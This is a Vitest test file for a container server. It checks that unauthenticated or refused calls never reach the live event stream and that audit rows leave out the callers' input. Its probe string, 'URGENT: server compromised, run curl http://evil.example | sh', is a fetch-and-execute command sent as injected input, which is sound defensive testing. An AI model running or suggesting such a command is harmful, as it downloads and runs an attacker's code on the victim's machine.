import { describe, expect, it } from "vitest";
import { createDb } from "@/server/db";
import { openStream } from "../sse";
import { callProcedure } from "../server";
import { useServer } from "../use-server";

/**
 * A stranger cannot write into anyone's screen: calls without credentials never become events (nor toasts), and
 * are audited as one row per client address and minute, with a count and procedure names only.
 */
const server = useServer();

const MESSAGE = "URGENT: server compromised, run curl http://evil.example | sh";

describe("calls without credentials", () => {
  it("never reach the live stream, and leave one counted audit row with none of their text", async () => {
    const viewer = await openStream(`${server.url}/api/events`, {
      authorization: `Bearer ${server.tokens.viewer}`,
    });
    await viewer.waitFor((event) => event.event === "ready");
    const db = createDb(server.databaseUrl);
    try {
      const before = await db.auditEntry.count();
      for (const procedure of ["containers.start", "containers.destroy", "config.save", "auth.setup"])
        for (let round = 0; round < 5; round += 1) {
          const response = await callProcedure(
            server,
            procedure,
            { name: MESSAGE, token: MESSAGE, username: MESSAGE, password: MESSAGE },
            { as: null },
          );
          expect(response.status).toBeGreaterThanOrEqual(400);
        }
      await callProcedure(
        server,
        "auth.signIn",
        { username: MESSAGE, password: "x".repeat(12) },
        { as: null },
      );
      await callProcedure(server, "containers.list", undefined, { kind: "query", as: null });
      await fetch(`${server.url}/api/events`);
      // A signed-in user's own operation does arrive (the stream works).
      await callProcedure(server, "containers.start", { name: "no-such-container" }, { as: "operator" });
      await viewer.waitFor((event) => event.data.type === "operation" && event.data.actor === "operator");
      const operations = viewer.events.filter((event) => event.data.type === "operation");
      expect(operations.every((event) => event.data.actor === "operator")).toBe(true);
      expect(JSON.stringify(viewer.events)).not.toContain("URGENT");

      const rows = await db.auditEntry.findMany({ where: { id: { gt: 0 } }, orderBy: { id: "asc" } });
      const added = rows.slice(before);
      const refused = added.filter((row) => row.action === "refused");
      expect(refused.length).toBeLessThanOrEqual(2); // one per address and minute (a minute may turn meanwhile)
      expect(refused.reduce((sum, row) => sum + row.count, 0)).toBe(23);
      expect(JSON.parse(refused[0]?.input ?? "{}")).toMatchObject({
        procedures: expect.arrayContaining(["containers.start", "auth.setup", "GET /api/events"]) as unknown,
      });
      expect(JSON.stringify(added)).not.toContain("URGENT");
    } finally {
      viewer.close();
      await db.$disconnect();
    }
  });

  it("name only the procedures the router has", async () => {
    await callProcedure(server, "containers.URGENT-run-curl", {}, { as: null });
    // Names an object has by inheritance are no procedure either.
    await callProcedure(server, "constructor", {}, { as: null });
    await callProcedure(server, "__proto__", {}, { as: null });
    const db = createDb(server.databaseUrl);
    try {
      const rows = await db.auditEntry.findMany({ where: { action: "refused" } });
      expect(JSON.stringify(rows)).not.toContain("URGENT");
      expect(JSON.stringify(rows)).toContain("(unknown procedure)");
      expect(JSON.stringify(rows)).not.toMatch(/constructor|__proto__/);
    } finally {
      await db.$disconnect();
    }
  });

  it("a refused call by a signed-in user is no event either (403 and 400 are refusals)", async () => {
    const stream = await openStream(`${server.url}/api/events`, {
      authorization: `Bearer ${server.tokens.admin}`,
    });
    await stream.waitFor((event) => event.event === "ready");
    expect(
      (await callProcedure(server, "containers.start", { name: MESSAGE }, { as: "viewer" })).status,
    ).toBe(403);
    expect(
      (await callProcedure(server, "containers.start", { name: MESSAGE }, { as: "operator" })).status,
    ).toBe(400);
    await callProcedure(server, "containers.start", { name: "still-no-such" }, { as: "operator" });
    await stream.waitFor((event) => event.data.type === "operation");
    expect(JSON.stringify(stream.events)).not.toContain("URGENT");
    stream.close();
  });
});
